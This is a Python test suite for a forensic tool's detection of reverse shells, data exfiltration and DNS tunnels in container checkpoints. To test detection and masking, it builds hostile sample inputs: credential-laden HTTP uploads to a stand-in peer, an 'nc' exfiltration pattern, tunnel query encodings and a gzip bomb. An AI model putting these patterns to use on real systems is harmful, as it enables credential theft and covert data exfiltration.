"""kcsi analyze's network families (lib/triage/rules_net.c, rules_exfil.c,
rules_dns.c): remote shells judged by what the shell does with its streams,
one finding per connection, exfiltration by what leaves and how, DNS tunnels.

Most tests edit the revshell fixture (bash -i, pid 15, with its stdin, stdout
and stderr on one connection to 127.6.6.7:4444): its descriptors, the bytes
queued on the connection, its port, its heap, the rootfs diff — every hostile
input is built here, with values drawn per run.  The test_lab_net_* tests
compare analyze with the ground truth of real lab scenes (lab/scenarios,
built fresh; skipped where the lab cannot run).  Time and memory are bounded
by timeouts and an RSS ceiling, never measured."""
import base64
import gzip
import io
import json
import random
import string
import struct
import tarfile
import zipfile

import kt
from kt import eq
import pbedit as pb
import test_hostile_reader as hr

SHELL_PID, PARENT_PID, SLEEP_PID = 15, 14, 7
SOCK_FILE_ID, DEVNULL_W, DEVNULL_R = 18, 15, 14
PEER = '127.6.6.7'
REG, INETSK = 1, 4
PE_PARENT, PE_PRESENT = 1, 4

R = random.Random()


def _rand(alphabet, n):
    return ''.join(R.choice(alphabet) for _ in range(n))


def _analyze(path, *extra):
    rc, out, err, _ = hr.run_bounded(['analyze', '--format', 'json'] + list(extra) + [path], timeout=120,
                                     max_rss=768 * hr.MiB)
    eq(rc, 0, 'analyze exit status (%s)' % err.strip()[-400:])
    return json.loads(out), out


def _ids(r, prefix=''):
    return [(f['id'], f['severity']) for f in r['findings'] if (f['id'] or '').startswith(prefix)]


def _found(r, fid):
    return [f for f in r['findings'] if f['id'] == fid]


# ---- editing the revshell fixture ----

def _fdinfo_member(ms, pid):
    """The fdinfo image of a process: fdinfo-<files_id>.img, files_id from
    ids-PID.img."""
    ids = pb.msg(pb.read_image(ms['checkpoint/ids-%d.img' % pid][1])[1][0])
    return 'checkpoint/fdinfo-%d.img' % pb.get(ids, 2)[0]


def _edit_fds(ms, pid, fn):
    name = _fdinfo_member(ms, pid)
    hdr, ents = pb.read_image(ms[name][1])
    fds = [pb.msg(e) for e in ents]
    fds = fn(fds)
    hr.put(ms, name, pb.write_image(hdr, fds))


def _fd(fid, ftype, num, flags=0):
    return [[1, 0, fid], [2, 0, flags], [3, 0, ftype], [4, 0, num]]


def _edit_socket(ms, **fields):
    """Fields of the connection's inet_sk_entry (7 src_port, 8 dst_port ...)."""
    hdr, ents = pb.read_image(ms['checkpoint/files.img'][1])
    out = []
    for e in ents:
        f = pb.msg(e)
        if pb.get(f, 2) == [SOCK_FILE_ID] and pb.get(f, 4):
            isk = pb.msg(pb.get(f, 4)[0])
            for num, v in fields.items():
                pb.put(isk, int(num[1:]), v)
            pb.put(f, 4, pb.enc(isk), 2)
        out.append(f)
    hr.put(ms, 'checkpoint/files.img', pb.write_image(hdr, out))


def _add_file(ms, fid, path, flags=0):
    """A regular file entry in files.img."""
    hdr, ents = pb.read_image(ms['checkpoint/files.img'][1])
    fown = [[1, 0, 0], [2, 0, 0], [3, 0, 0], [4, 0, 0], [5, 0, 0]]
    reg = [[1, 0, fid], [2, 0, flags], [3, 0, 0], [5, 2, fown], [6, 2, path.encode()], [7, 0, 97 * 2],
           [10, 0, 0o100600]]  # mnt_id is a sint32 (zigzag)
    ents = list(ents) + [[[1, 0, REG], [2, 0, fid], [3, 2, reg]]]
    hr.put(ms, 'checkpoint/files.img', pb.write_image(hdr, ents))


def _set_outq(ms, payload):
    """The connection's send queue holds payload (tcp-stream image: the entry,
    then the receive queue's bytes, then the send queue's)."""
    name = [n for n in ms if n.startswith('checkpoint/tcp-stream-')][0]
    data = ms[name][1]
    hlen = 8 if struct.unpack_from('<I', data, 0)[0] in pb.COMMON_MAGICS else 4
    n = struct.unpack_from('<I', data, hlen)[0]
    entry = pb.msg(data[hlen + 4:hlen + 4 + n])
    rest = data[hlen + 4 + n:]
    inq = rest[:pb.get(entry, 1)[0]]
    pb.put(entry, 3, len(payload))
    e = pb.enc(entry)
    hr.put(ms, name, data[:hlen] + struct.pack('<I', len(e)) + e + inq + payload)


def _rootfs_add(ms, files):
    """Files added to the rootfs diff: {path: bytes}."""
    old = ms['rootfs-diff.tar'][1]
    buf = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(old)) as src, tarfile.open(fileobj=buf, mode='w') as dst:
        for ti in src.getmembers():
            dst.addfile(ti, src.extractfile(ti) if ti.isfile() else None)
        for path, data in files.items():
            ti = tarfile.TarInfo(path.lstrip('/'))
            ti.size, ti.mode, ti.mtime = len(data), 0o600, 1700000000
            dst.addfile(ti, io.BytesIO(data))
    hr.put(ms, 'rootfs-diff.tar', buf.getvalue())


def _heap_write(ms, pid, text):
    """Write text into the last page the checkpoint holds of pid's heap."""
    areas = kt.jrun('maps', '--pid', str(pid), '--json', kt.fixture('revshell'))
    heap = [a for a in areas if a['kind'] == 'heap'][0]
    start, end = int(heap['start'], 16), int(heap['end'], 16)
    pm = json.loads(kt.run('decode', kt.fixture('revshell'), 'pagemap-%d.img' % pid)[1])['entries']
    pages_id, off, target = pm[0]['pages_id'], 0, None
    for e in pm[1:]:
        n = e.get('nr_pages') or e.get('compat_nr_pages')
        held = e['flags'] & PE_PRESENT and not e['flags'] & PE_PARENT
        last = e['vaddr'] + (n - 1) * 4096
        if held and start <= last < end:
            target = (off + (n - 1) * 4096, last)
        if held:
            off += n * 4096
    assert target, 'the heap has no page in the checkpoint'
    name = 'checkpoint/pages-%d.img' % pages_id
    data = bytearray(ms[name][1])
    blob = text.encode()
    assert len(blob) < 4000
    data[target[0]:target[0] + 4096] = blob + bytes(4096 - len(blob))
    hr.put(ms, name, bytes(data))
    return target[1]


def _write(ms, tag):
    return hr.write_tar(ms, hr.tmp('net-%s-%s.tar' % (tag, _rand(string.ascii_lowercase, 6))))


# ---- made-up secrets and data ----

def _shadow():
    users = ['root', 'daemon', 'bin', 'sys', 'app%d' % R.randrange(100)]
    lines = []
    for u in users:
        h = '$y$j9T$%s$%s' % (_rand(string.ascii_letters + string.digits + './', 22),
                              _rand(string.ascii_letters + string.digits + './', 43)) if u in ('root', users[-1]) else '*'
        lines.append('%s:%s:%d:0:99999:7:::' % (u, h, R.randrange(19000, 20000)))
    return '\n'.join(lines) + '\n'


def _passwd():
    return ''.join('%s:x:%d:%d:%s:/home/%s:/bin/sh\n' % (u, i, i, u, u)
                   for i, u in enumerate(['root', 'daemon', 'bin', 'sys', 'svc%d' % R.randrange(100)]))


def _tar(files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w') as t:
        for path, data in files.items():
            ti = tarfile.TarInfo(path)
            ti.size, ti.mtime = len(data), 1700000000
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def _filler(n):
    return ''.join('%d,%s,%d\n' % (i, _rand(string.ascii_lowercase, 8), R.randrange(1000)) for i in range(n)).encode()


def _jwt():
    b64 = string.ascii_letters + string.digits + '-_'
    return 'eyJhbGciOiJSUzI1NiJ9.eyJ%s.%s' % (_rand(b64, 180), _rand(b64, 342))


def _akia():
    return 'AKIA' + _rand(string.ascii_uppercase + '234567', 16)


# ---- remote shells ----

def test_shell_socket_on_stdin_alone_is_no_shell():
    """bash reading one line from a connection (`read <&3`, or exec 0<&3) has
    the socket on fd 0 for a moment while its output goes elsewhere: it was
    called a reverse shell (critical) by that one descriptor.  A shell is a
    remote shell when its input AND its output or error reach the connection."""
    ms = hr.members('revshell')
    _edit_fds(ms, SHELL_PID, lambda fds: [_fd(DEVNULL_W, REG, pb.get(f, 4)[0]) if pb.get(f, 4)[0] in (1, 2) else f
                                          for f in fds])
    r, _ = _analyze(_write(ms, 'stdin-only'))
    eq(_ids(r, 'KCSI-SHELL'), [], 'no remote shell for a socket on stdin alone')
    # the fixture itself (stdin, stdout and stderr on the connection) is one
    base, _ = _analyze(kt.fixture('revshell'))
    shell = _found(base, 'KCSI-SHELL-001')
    eq([f['severity'] for f in shell], ['critical'], 'the real reverse shell')
    assert PEER in shell[0]['evidence'][0]['connection'], shell


def test_shell_one_finding_per_connection():
    """Two processes holding one connection (the parent that made it and the
    shell on it) gave one unusual-port finding per process, and each would be
    a remote shell of its own: one finding per connection now, the other
    holder named in its evidence."""
    ms = hr.members('revshell')
    _edit_fds(ms, PARENT_PID, lambda fds: fds + [_fd(SOCK_FILE_ID, INETSK, 3, 2)])
    r, _ = _analyze(_write(ms, 'two-holders'))
    port = _found(r, 'KCSI-NET-PORT-001')
    eq(len(port), 1, 'one unusual-port finding for the one connection')
    eq(sorted({e['pid'] for e in port[0]['evidence']}), [PARENT_PID, SHELL_PID], 'both holders named')
    eq(len(_found(r, 'KCSI-SHELL-001')), 1, 'one remote shell')


def test_shell_pool_port_is_not_mining():
    """A reverse shell to port 5555 (adb's port, one mining pools use too) was
    reported as mining (T1496, high) from the port alone."""
    ms = hr.members('revshell')
    _edit_socket(ms, f8=5555)
    r, _ = _analyze(_write(ms, 'pool-port'))
    mining = [f['id'] for f in r['findings'] if any(m.startswith('T1496') for m in f['mitre'])]
    eq(mining, [], 'no mining from a port')
    eq([f['severity'] for f in _found(r, 'KCSI-SHELL-001')], ['critical'], 'still the reverse shell')
    assert [f for f in r['findings'] if f['severity'] == 'medium' and '5555' in f['title']], _ids(r)


def test_shell_connection_of_a_program_from_dev_shm():
    """A program run from /dev/shm (or memory, or a deleted file) holding a
    connection to a common port made no network finding at all (the port is
    not unusual): the connection is its command and control, whatever the
    port — one finding, high."""
    ms = hr.members('revshell')
    hdr, ents = pb.read_image(ms['checkpoint/files.img'][1])
    out = []
    for e in ents:
        f = pb.msg(e)
        if pb.get(f, 3):
            reg = pb.msg(pb.get(f, 3)[0])
            if pb.get(reg, 6) == [b'/usr/bin/bash']:
                pb.put(reg, 6, ('/dev/shm/.%s/bash' % _rand(string.ascii_lowercase, 5)).encode(), 2)
                pb.put(f, 3, pb.enc(reg), 2)
        out.append(f)
    hr.put(ms, 'checkpoint/files.img', pb.write_image(hdr, out))
    _edit_socket(ms, f8=443)
    r, _ = _analyze(_write(ms, 'shm-program'))
    c2 = _found(r, 'KCSI-NET-C2-001')
    eq([f['severity'] for f in c2], ['high'], _ids(r, 'KCSI-NET'))
    eq([x for x in _ids(r, 'KCSI-NET') if x[0] != 'KCSI-NET-C2-001'], [], 'one finding for the connection')


# ---- exfiltration ----

def test_exfil_tar_of_shadow_in_send_queue():
    """A tar of /etc (the shadow file in it) waiting in the send queue of a
    connection to a peer outside the container made no exfiltration finding.
    It is critical now, naming the members, with the password hashes masked;
    a tar of business data of the same size is a low bulk-transfer note."""
    shadow = _shadow()
    ms = hr.members('revshell')
    _set_outq(ms, _tar({'etc/hostname': b'web-1\n', 'etc/passwd': _passwd().encode(), 'etc/shadow': shadow.encode(),
                        'srv/data/report.csv': _filler(6000)})[700:])  # cut: the peer took the start
    r, out = _analyze(_write(ms, 'tar-shadow'))
    ex = _found(r, 'KCSI-EXFIL-001')
    eq([f['severity'] for f in ex], ['critical'], _ids(r, 'KCSI-EXFIL'))
    text = json.dumps(ex[0])
    assert 'etc/shadow' in text and PEER in text, text
    assert 'T1560.001' in ex[0]['mitre'] and 'T1003.008' in ex[0]['mitre'], ex[0]['mitre']
    for line in shadow.splitlines():
        h = line.split(':')[1]
        if h.startswith('$'):
            assert h.encode() not in out and h[-20:].encode() not in out, 'a password hash in the report'

    ms = hr.members('revshell')
    _set_outq(ms, _tar({'srv/data/sales-%d.csv' % i: _filler(1500) for i in range(6)})[700:])
    r, _ = _analyze(_write(ms, 'tar-backup'))
    eq(_ids(r, 'KCSI-EXFIL'), [('KCSI-EXFIL-005', 'low')], 'business data in bulk: a low note only')


def test_exfil_encoded_archive_in_upload_queue():
    """An HTTP upload whose body is base64 of a tar.gz (the shadow file and an
    ssh key in it) waits in the send queue: the body is decoded, unpacked and
    its members named."""
    blob = base64.b64encode(gzip.compress(_tar({'etc/shadow': _shadow().encode(),
                                                  'root/.ssh/id_ed25519': b'-----BEGIN OPENSSH PRIVATE KEY-----\n' +
                                                  _rand(string.ascii_letters, 300).encode() +
                                                  b'\n-----END OPENSSH PRIVATE KEY-----\n'})))
    head = ('POST /v2/%s/upload HTTP/1.1\r\nHost: %s:4444\r\nUser-Agent: curl/8.5.0\r\nContent-Length: %d\r\n\r\n'
            % (_rand(string.ascii_lowercase, 8), PEER, len(blob))).encode()
    ms = hr.members('revshell')
    _set_outq(ms, head + blob)
    r, _ = _analyze(_write(ms, 'b64-upload'))
    ex = _found(r, 'KCSI-EXFIL-001')
    eq([f['severity'] for f in ex], ['critical'], _ids(r))
    text = json.dumps(ex[0])
    assert 'etc/shadow' in text and 'root/.ssh/id_ed25519' in text, text
    assert 'T1132.001' in ex[0]['mitre'], ex[0]['mitre']


def test_exfil_tool_sends_staged_file():
    """A program that is no shell holds the connection and reads its standard
    input from a file the attacker staged (nc HOST PORT < FILE): the file, in
    the rootfs diff, is base64 of a zip holding a private key and cloud
    credentials.  It was not looked at; it is the evidence now."""
    key = _akia()
    z = io.BytesIO()
    with zipfile.ZipFile(z, 'w', zipfile.ZIP_DEFLATED) as zf:
        zf.writestr('home/app/.aws/credentials', '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n'
                    % (key, _rand(string.ascii_letters + string.digits + '/+', 40)))
        zf.writestr('home/app/.ssh/id_rsa', '-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----\n'
                    % _rand(string.ascii_letters, 400))
    staged = '/var/tmp/.%s/%s.b64' % (_rand(string.ascii_lowercase, 5), _rand(string.ascii_lowercase, 4))
    ms = hr.members('revshell')
    _add_file(ms, 90, staged)
    _rootfs_add(ms, {staged: base64.b64encode(z.getvalue())})
    # the sleep process (no shell) holds the connection, its stdin the staged file
    _edit_fds(ms, SLEEP_PID, lambda fds: [_fd(90, REG, 0)] + [f for f in fds if pb.get(f, 4)[0] != 0] +
              [_fd(SOCK_FILE_ID, INETSK, 3, 2)])
    r, out = _analyze(_write(ms, 'staged-file'))
    ex = _found(r, 'KCSI-EXFIL-002')
    eq([f['severity'] for f in ex], ['critical'], _ids(r))
    text = json.dumps(ex[0])
    assert staged in text and 'home/app/.ssh/id_rsa' in text, text


def test_exfil_http_body_in_memory():
    """A credential thief POSTed a JSON body with a service-account token, an
    AWS key pair and a private key; the peer took it all (nothing queued), the
    request is in the thief's heap.  The request is tied to the connection by
    its Host header and the body read: critical, every secret masked."""
    jwt, akia = _jwt(), _akia()
    secret = _rand(string.ascii_letters + string.digits + '/+', 40)
    body = json.dumps({'token': jwt, 'aws': '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n'
                       % (akia, secret), 'ns': 'prod'})
    req = ('POST /api/v1/%s HTTP/1.1\r\nHost: %s:4444\r\nUser-Agent: kubectl/v1.29.3\r\nContent-Type: '
           'application/json\r\nContent-Length: %d\r\n\r\n%s' % (_rand(string.ascii_lowercase, 6), PEER, len(body), body))
    ms = hr.members('revshell')
    addr = _heap_write(ms, SHELL_PID, req)
    r, out = _analyze(_write(ms, 'http-body'))
    ex = _found(r, 'KCSI-EXFIL-003')
    eq([f['severity'] for f in ex], ['critical'], _ids(r))
    mem = [e for e in ex[0]['evidence'] if e['kind'] == 'memory']
    eq(int(mem[0]['address'], 16), addr, 'the request where it was written')
    assert '%s... (20 characters)' % akia[:8] in mem[0]['excerpt'], mem[0]['excerpt']
    assert '%s... (%d characters)' % (jwt[:8], len(jwt)) in mem[0]['excerpt'], mem[0]['excerpt']
    for s in (jwt, akia, secret, jwt[-40:]):
        assert s.encode() not in out, 'a secret shown unmasked'

    # a client posting its own token (a Slack bot's chat.postMessage form): a low note
    slack = 'xoxb-%d-%d-%s' % (R.randrange(10 ** 11, 10 ** 12), R.randrange(10 ** 12, 10 ** 13),
                               _rand(string.ascii_letters + string.digits, 24))
    body = 'token=%s&channel=C%s&text=deploy+finished' % (slack, _rand(string.ascii_uppercase + string.digits, 8))
    req = ('POST /api/chat.postMessage HTTP/1.1\r\nHost: %s:4444\r\nContent-Type: application/x-www-form-urlencoded'
           '\r\nContent-Length: %d\r\n\r\n%s' % (PEER, len(body), body))
    ms = hr.members('revshell')
    _heap_write(ms, SHELL_PID, req)
    r, out = _analyze(_write(ms, 'http-token'))
    # low on its own; the credential rules may judge the holder (here the
    # fixture's reverse shell, of another session than the workload's) a
    # thief, and then the same upload is one (the single-token upgrade)
    cred = [f for f in r['findings'] if f['id'] == 'KCSI-CRED-001' and f['severity'] in ('high', 'critical')]
    eq(_ids(r, 'KCSI-EXFIL'), [('KCSI-EXFIL-003', 'high' if cred else 'low')], 'one token of its own')
    assert slack.encode() not in out


def test_exfil_credential_finding_of_an_uploader():
    """The credential rules' findings are part of the model: a process that
    is the subject of a high credential-access finding (here one made by a
    YARA rule with T1552.001 on a token in its heap) and has bytes waiting
    for a peer outside uploads what it took — nothing said so."""
    import os
    token = 'tok-' + _rand(string.ascii_letters + string.digits, 40)
    ms = hr.members('revshell')
    _heap_write(ms, SHELL_PID, 'token=%s\n' % token)
    _set_outq(ms, b' ' * 3000)
    rules = os.path.join(kt.tmpdir(), 'net-token-%s.yar' % _rand(string.ascii_lowercase, 6))
    with open(rules, 'w') as f:
        f.write('rule stolen_token { meta: severity = "high" mitre = "T1552.001" description = "a token" '
                'strings: $t = "%s" condition: $t }\n' % token)
    r, _ = _analyze(_write(ms, 'cred-upload'), '--yara', rules)
    assert _found(r, 'KCSI-YARA-stolen_token'), _ids(r)
    ex = _found(r, 'KCSI-EXFIL-004')
    eq([f['severity'] for f in ex], ['high'], _ids(r))
    assert PEER in ex[0]['evidence'][0]['connection'] and ex[0]['evidence'][0]['pid'] == SHELL_PID, ex[0]


# ---- DNS ----

def _dns_tcp_messages(names):
    out = b''
    for i, n in enumerate(names):
        q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0)
        q += b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\0' + struct.pack('>HH', 16, 1)
        out += struct.pack('>H', len(q)) + q
    return out


def _b32(data):
    return base64.b32encode(data).decode().rstrip('=').lower()


def test_dns_tunnel_in_tcp_queue():
    """DNS over TCP to port 53 whose queued queries carry base32 chunks of an
    account list under one zone: no DNS finding was made.  It is a critical
    tunnel now; the zone is one IOC, the query names are not; ordinary names
    in the same place make nothing."""
    zone = '%s-%s.net' % (_rand(string.ascii_lowercase, 5), _rand(string.hexdigits.lower(), 6))
    data = _b32(_passwd().encode() * 3)
    names = ['%s.%d.%s' % (data[i:i + 52], k, zone) for k, i in enumerate(range(0, len(data), 52))]
    assert len(names) >= 10
    ms = hr.members('revshell')
    _edit_socket(ms, f8=53)
    _set_outq(ms, _dns_tcp_messages(names))
    r, _ = _analyze(_write(ms, 'dns-tcp'))
    dns = _found(r, 'KCSI-DNS-001')
    eq([f['severity'] for f in dns], ['critical'], _ids(r))
    assert zone in dns[0]['title'] and 'T1071.004' in dns[0]['mitre'] and 'T1048.003' in dns[0]['mitre'], dns[0]
    assert 'account lines' in json.dumps(dns[0]), dns[0]
    doms = [i for i in r['iocs'] if i['type'] == 'domain']
    assert [i for i in doms if i['value'] == zone], doms
    eq([i['value'] for i in doms if i['value'].endswith('.' + zone)], [], 'query names are not IOCs')

    plain = ['%s.%s' % (h, zone) for h in ('www', 'api', 'cdn', 'mail', 'img1', 'img2', 'auth', 'status', 'docs', 'blog')]
    ms = hr.members('revshell')
    _edit_socket(ms, f8=53)
    _set_outq(ms, _dns_tcp_messages(plain * 2))
    r, _ = _analyze(_write(ms, 'dns-plain'))
    eq(_ids(r, 'KCSI-DNS'), [], 'ordinary names: no tunnel')


def test_dns_staged_query_file():
    """A query list written for a tunnel (hex chunks of the shadow file under
    one zone) in the rootfs diff: a high finding naming the file, what the
    labels decode to, and the zone as the IOC."""
    zone = 'upd-%s.io' % _rand(string.hexdigits.lower(), 6)
    data = _shadow().encode().hex() * 2
    names = ['%s.%s.%s' % (data[i:i + 40], _rand(string.hexdigits.lower(), 4), zone) for i in range(0, len(data), 40)]
    path = '/var/tmp/.%s.q' % _rand(string.ascii_lowercase, 6)
    ms = hr.members('revshell')
    _rootfs_add(ms, {path: ('\n'.join(names) + '\n').encode()})
    r, _ = _analyze(_write(ms, 'dns-file'))
    f = _found(r, 'KCSI-DNS-002')
    eq([x['severity'] for x in f], ['high'], _ids(r))
    text = json.dumps(f[0])
    assert path in text and zone in text and 'shadow lines' in text, text
    assert [i for i in r['iocs'] if i['type'] == 'domain' and i['value'] == zone], 'the zone is an IOC'


def test_net_hostile_queue_bounded():
    """The classifier and the DNS wire parser read the attacker's bytes: a
    send queue of base64 of a gzip bomb (256 MiB of zeros), then 2 MiB of label
    lengths that never end a name, analysed within the memory ceiling."""
    bomb = io.BytesIO()
    with gzip.GzipFile(fileobj=bomb, mode='wb', compresslevel=9) as g:
        chunk = bytes(1 << 20)
        for _ in range(256):
            g.write(chunk)
    payload = b'PUT /x HTTP/1.1\r\nHost: %s:53\r\n\r\n' % PEER.encode() + base64.b64encode(bomb.getvalue())
    payload += (b'\x3f' + b'a' * 63) * (2 << 20 >> 6)
    ms = hr.members('revshell')
    _edit_socket(ms, f8=53)
    _set_outq(ms, payload)
    r, _ = _analyze(_write(ms, 'bomb'))
    assert r['verdict'] in ('malicious', 'suspicious', 'clean')


def test_dns_merged_detonation_log():
    """A detonation whose sinkhole logged only a few queries (too few for the
    detonation's own tunnel statistics) that carry hex chunks of an account
    list under one zone: merged, they made no finding and every query name
    stayed an IOC.  analyze's DNS rules read the merged log now: a tunnel
    finding on the zone, the names folded into it."""
    import hashlib
    import os
    zone = 'sync-%s.com' % _rand(string.hexdigits.lower(), 6)
    data = _passwd().encode().hex()
    names = ['%s.%s.%d.%s' % (data[i:i + 50], data[i + 50:i + 100], k, zone)
             for k, i in enumerate(range(0, 300, 100))]
    d = os.path.join(kt.tmpdir(), 'net-det-%s' % _rand(string.ascii_lowercase, 6))
    os.makedirs(d)
    sha = hashlib.sha256(open(kt.fixture('counter'), 'rb').read()).hexdigest()
    with open(os.path.join(d, 'report.json'), 'w') as f:
        json.dump({'schema': 'kcsi-detonation/1', 'archive_sha256': sha,
                   'findings': [{'id': 'KCSI-DYN-DNS-001', 'severity': 'low', 'title': 'DNS lookups', 'mitre': ['T1071.004'],
                                 'evidence': [{'kind': 'dns', 'pid': -1, 'fd': -1, 'excerpt': 'TXT %s' % n} for n in names]}],
                   'iocs': [{'type': 'domain', 'value': n, 'source': 'detonation: DNS query', 'count': 1} for n in names],
                   'network': {'dns': [{'name': n, 'type': 'TXT', 'transport': 'udp', 'server': '198.51.100.53'}
                                       for n in names]}}, f)
    r, _ = _analyze(kt.fixture('counter'), '--detonation', d)
    f = _found(r, 'KCSI-DNS-004')
    assert len(f) == 1 and f[0]['severity'] in ('high', 'critical') and zone in f[0]['title'], _ids(r)
    assert r['verdict'] != 'clean', r['verdict']
    doms = {i['value']: i for i in r['iocs'] if i['type'] == 'domain'}
    assert zone in doms and doms[zone]['count'] >= len(names), doms
    eq([v for v in doms if v.endswith('.' + zone)], [], 'the query names are folded into the zone')


# ---- the lab's scenes ----

def _lab(name):
    import test_lab
    return test_lab.scenario(name)


def _lab_analyze(name):
    arch, truth = _lab(name)
    r, out = _analyze(arch)
    return r, out, truth


def test_lab_net_remote_shells():
    """The relayed shells (socat's socket pair, python's pty.spawn) are one
    critical finding on their connection naming the shell; tarexfil's bash,
    which only reads an acknowledgement from its socket, is no shell."""
    for name in ('revshell-socat', 'ptyshell-py'):
        r, _, truth = _lab_analyze(name)
        f = _found(r, 'KCSI-SHELL-003')
        eq([x['severity'] for x in f], ['critical'], (name, _ids(r)))
        pids = {e.get('pid') for e in f[0]['evidence']}
        assert truth['facts']['shell_pid'] in pids and truth['facts']['relay_pid'] in pids, (name, f[0])
        lst = truth['params']['listener']
        assert lst.rsplit(':', 1)[0] in f[0]['evidence'][0]['connection'], f[0]
        assert not [x for x in r['findings'] if any(m.startswith('T1496') for m in x['mitre'])], (name, _ids(r))
    r, _, _ = _lab_analyze('tarexfil')
    eq(_ids(r, 'KCSI-SHELL'), [], 'tarexfil: no shell')


def test_lab_net_exfiltration():
    """Bulk exfiltration scenes: a critical finding on the connection to the
    drop server, by the process the scene recorded; the benign backup of the
    same shape is clean."""
    for name in ('tarexfil', 'httpexfil', 'zipexfil-socat'):
        r, _, truth = _lab_analyze(name)
        drop = truth['params']['drop'].rsplit(':', 1)[0]
        ex = [f for f in r['findings'] if f['id'].startswith('KCSI-EXFIL') and f['severity'] == 'critical']
        assert ex and drop in json.dumps(ex[0]), (name, _ids(r))
        assert [e for e in ex[0]['evidence'] if e.get('pid') == truth['facts']['exfil_pid']], (name, ex[0])
        eq(r['verdict'], 'malicious', name)
    r, _, _ = _lab_analyze('backup-tar')
    eq(r['verdict'], 'clean', _ids(r))


def test_lab_net_credentials_sent():
    """Credential thieves whose requests left (the peer took them, or waits):
    the exfiltration finding names the thief and masks what it carries."""
    for name, key in (('k8screds', 'thief_pid'), ('cloudcreds', 'thief_pid'), ('secretsmem', 'scraper_pid'),
                      ('secretsenv', 'harvester_pid')):
        r, out, truth = _lab_analyze(name)
        ex = [f for f in r['findings'] if f['id'].startswith('KCSI-EXFIL') and f['severity'] == 'critical']
        assert ex, (name, _ids(r))
        assert [e for e in ex[0]['evidence'] if e.get('pid') == truth['facts'][key]], (name, ex[0])
        text = json.dumps(ex[0])
        for k, v in truth['params'].get('secrets', {}).items():
            if isinstance(v, str) and len(v) >= 20 and k in ('jwt', 'aws_secret_access_key', 'stripe_key',
                                                             'github_token', 'slack_token'):
                assert v not in text, (name, k, 'unmasked')


def test_lab_net_dns_tunnels():
    """The DNS tunnels (hex over connected UDP, base32 over TCP with dig,
    base64url over unconnected UDP) are critical on the tunnelling process
    with the zone as the IOC and no query name as one; the DNS-heavy
    discovery agent is clean."""
    for name in ('dnsexfil-udp', 'dnsexfil-tcp', 'dnsexfil-b64u'):
        r, _, truth = _lab_analyze(name)
        zone = truth['params']['zone']
        f = [x for x in _found(r, 'KCSI-DNS-001') if zone in x['title']]
        eq([x['severity'] for x in f], ['critical'], (name, _ids(r)))
        assert [e for e in f[0]['evidence'] if e.get('pid') == truth['facts']['tunnel_pid']], (name, f[0])
        doms = [i['value'] for i in r['iocs'] if i['type'] == 'domain']
        assert zone in doms, (name, doms[:20])
        eq([d for d in doms if d.endswith('.' + zone)], [], name)
    r, _, _ = _lab_analyze('dnsheavy')
    eq(r['verdict'], 'clean', _ids(r))
